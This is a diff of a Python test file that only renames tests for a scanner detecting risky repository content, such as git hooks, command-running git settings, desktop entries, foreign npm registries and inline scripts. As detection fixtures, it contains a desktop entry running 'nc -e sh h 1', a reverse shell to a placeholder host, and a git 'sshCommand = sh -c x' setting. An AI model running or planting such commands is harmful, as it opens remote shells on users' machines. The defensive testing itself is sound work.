@@ -125,7 +125,7 @@ def test_git_hook_is_reported(read_bytes):
     assert ("on-open", "git hook pre-commit") in list_mentions(read_bytes(b"#!/bin/sh\ntrue\n", ".githooks/pre-commit"))
 
 
-def test_git_setting_that_runs_command_is_reported(read_bytes):
+def test_git_setting_that_runs_a_command_is_reported(read_bytes):
     settings_text = b"[core]\nsshCommand = sh -c x\n"
     assert list_mentions(read_bytes(settings_text, ".git/config")) == [("git-command", "core.sshcommand")]
 
@@ -135,7 +135,7 @@ def test_usual_git_settings_give_no_mentions(read_bytes):
     assert list_mentions(read_bytes(lfs, ".gitconfig")) == []
 
 
-def test_command_of_desktop_entry_is_reported(read_bytes):
+def test_command_of_a_desktop_entry_is_reported(read_bytes):
     entry = b"[Desktop Entry]\nExec=nc -e sh h 1\n"
     assert "reverse-shell" in {use for use, _ in list_mentions(read_bytes(entry, "x.desktop"))}
 
@@ -144,16 +144,16 @@ def test_foreign_package_index_in_npm_settings_is_reported(read_bytes):
     assert list_mentions(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
 
 
-def test_modelfile_references_local_files(read_bytes):
+def test_local_files_that_a_modelfile_names_are_references(read_bytes):
     reading = read_bytes(b"FROM ../x.gguf\nADAPTER ./a.gguf\nTEMPLATE x\n", "Modelfile")
     assert [each.target for group in reading.of(References) for each in group.items] == ["../x.gguf", "./a.gguf"]
 
 
-def test_model_name_in_modelfile_is_no_reference(read_bytes):
+def test_model_name_in_a_modelfile_is_no_reference(read_bytes):
     assert not read_bytes(b"FROM llama3\n", "Modelfile").of(References)
 
 
-def test_inline_python_program_becomes_artifact(read_bytes):
+def test_python_program_within_a_script_is_an_artifact(read_bytes):
     reading = read_bytes(b"true\npython - <<E\nimport os\nE\npython3 -c 'x = 1'\n", "a.sh")
     assert [path for path, _ in reading.structures if "!" in path] == ["a.sh!line-2.py", "a.sh!line-5.py"]
 
@@ -164,11 +164,11 @@ def test_commands_before_damage_are_reported(read_bytes):
     assert UnreadReason.DAMAGED in reading.reasons()
 
 
-def test_deeply_nested_script_reaches_limit(read_bytes):
+def test_deeply_nested_script_reaches_the_limit(read_bytes):
     assert UnreadReason.LIMIT in read_bytes(b"$(" * 3000, "a.sh").reasons()
 
 
-def test_very_long_script_reaches_limit(read_bytes):
+def test_very_long_script_reaches_the_limit(read_bytes):
     assert UnreadReason.LIMIT in read_bytes(b"true;" * 500_000, "a.sh").reasons()
 
 
